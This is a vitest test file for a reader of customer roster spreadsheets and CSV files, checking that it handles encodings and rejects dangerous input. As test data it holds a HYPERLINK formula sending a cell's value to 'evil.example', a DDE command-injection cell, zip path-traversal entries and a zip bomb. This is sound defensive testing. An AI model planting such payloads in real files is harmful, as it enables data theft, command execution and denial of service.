import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { strToU8, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { readCsv } from '../../../src/adapters/sheet/read-csv.ts'
import { readSheet } from '../../../src/adapters/sheet/read-sheet.ts'
import { unpacksWithin } from '../../../src/adapters/sheet/read-xlsx.ts'

const root = new URL('../../..', import.meta.url).pathname
const thread = pathToFileURL(join(root, '.build/src/adapters/sheet/sheet-thread.js'))

const read = (name: string, bytes: Uint8Array) => readSheet({ name, bytes }, thread)

const cell = (value: string, at: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`

/** The smallest workbook that the standard (ECMA-376) allows, with the given cells as text. */
const workbook = (rows: readonly (readonly string[])[], more: { readonly [file: string]: Uint8Array } = {}): Uint8Array => {
  const lines = rows.map(
    (cells, row) =>
      `<row r="${row + 1}">${cells.map((value, column) => cell(value, `${'ABCDEF'[column]}${row + 1}`)).join('')}</row>`,
  )
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const relations = 'http://schemas.openxmlformats.org/package/2006/relationships'
  return zipSync({
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
    ),
    '_rels/.rels': strToU8(
      `<?xml version="1.0"?><Relationships xmlns="${relations}"><Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    'xl/workbook.xml': strToU8(
      `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="Roster" sheetId="1" r:id="r1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<?xml version="1.0"?><Relationships xmlns="${relations}"><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': strToU8(
      `<?xml version="1.0"?><worksheet xmlns="${main}"><sheetData>${lines.join('')}</sheetData></worksheet>`,
    ),
    ...more,
  })
}

describe('a roster file from a customer', () => {
  test('quoted cells, semicolons and accents of an older encoding are read', () => {
    expect(readCsv(strToU8('Name;No\n"Smith; Jr.";07\n\n"A ""B""";8\n'))).toEqual([
      ['Name', 'No'],
      ['Smith; Jr.', '07'],
      ['A "B"', '8'],
    ])
    expect(readCsv(new Uint8Array([0x50, 0x65, 0xf1, 0x61, 0x2c, 0x37]))).toEqual([['Peña', '7']])
  })

  test('a formula is what it showed when it was saved, or its own words; nothing is reckoned, fetched or run', async () => {
    const formula = strToU8(
      '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>HYPERLINK("http://evil.example/"&amp;B1)</f><v>shown</v></c><c r="B1" t="inlineStr"><is><t>=cmd|" /C calc"!A0</t></is></c></row></sheetData></worksheet>',
    )
    const seen = await read('r.xlsx', workbook([], { 'xl/worksheets/sheet1.xml': formula }))
    expect(seen).toEqual({ table: [['shown', '=cmd|" /C calc"!A0']] })
    expect(readCsv(strToU8('=1+1,@SUM(A1)\n'))).toEqual([['=1+1', '@SUM(A1)']])
  })

  test('names in an archive that lead elsewhere lead nowhere: nothing is unpacked to the disk', async () => {
    const away = { '../../../tmp/platenpost-planted': strToU8('x'), '/tmp/platenpost-planted': strToU8('x') }
    expect(await read('r.xlsx', workbook([['Name'], ['Hale']], away))).toEqual({ table: [['Name'], ['Hale']] })
    expect(existsSync('/tmp/platenpost-planted')).toBe(false)
  })

  test('a workbook is read in its thread, figures as they were written', async () => {
    expect(
      await read(
        'r.xlsx',
        workbook([
          ['Name', 'Number'],
          ['Núñez', '07'],
        ]),
      ),
    ).toEqual({
      table: [
        ['Name', 'Number'],
        ['Núñez', '07'],
      ],
    })
  })

  test('a file over a megabyte, 501 lines, a picture and a broken archive say why they were not read', async () => {
    expect(await read('r.csv', new Uint8Array(1_000_001))).toEqual({ unread: 'too-large' })
    expect(await read('r.csv', strToU8('1,A\n'.repeat(501)))).toEqual({ unread: 'too-large' })
    expect(await read('r.png', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0]))).toEqual({ unread: 'not-a-table' })
    expect(await read('r.xlsx', strToU8('PK\u0003\u0004 nothing'))).toEqual({ unread: 'broken' })
  })

  test('an archive that unpacks to gigabytes is stopped while it streams', async () => {
    const bomb = workbook([['a']], { 'xl/media/fill.bin': new Uint8Array(40_000_000) })
    expect(bomb.length).toBeLessThan(1_000_000)
    expect(unpacksWithin(bomb, 20_000_000)).toBe(false)
    expect(await read('r.xlsx', bomb)).toEqual({ unread: 'too-large' })
  })
})
